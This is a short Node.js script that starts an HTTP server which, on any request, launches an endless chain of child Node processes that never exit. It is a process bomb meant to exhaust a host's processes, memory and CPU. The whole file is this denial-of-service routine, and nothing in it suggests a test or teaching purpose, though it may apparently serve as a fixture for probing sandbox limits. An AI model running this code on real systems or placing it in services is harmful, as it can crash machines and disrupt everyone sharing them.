import { spawn } from 'node:child_process';
import http from 'node:http';

const startMore = () => {
  spawn(process.execPath, ['-e', 'setInterval(() => {}, 1000)'], { stdio: 'ignore' });
  setImmediate(startMore);
};
http.createServer(startMore).listen(process.env['PORT']);
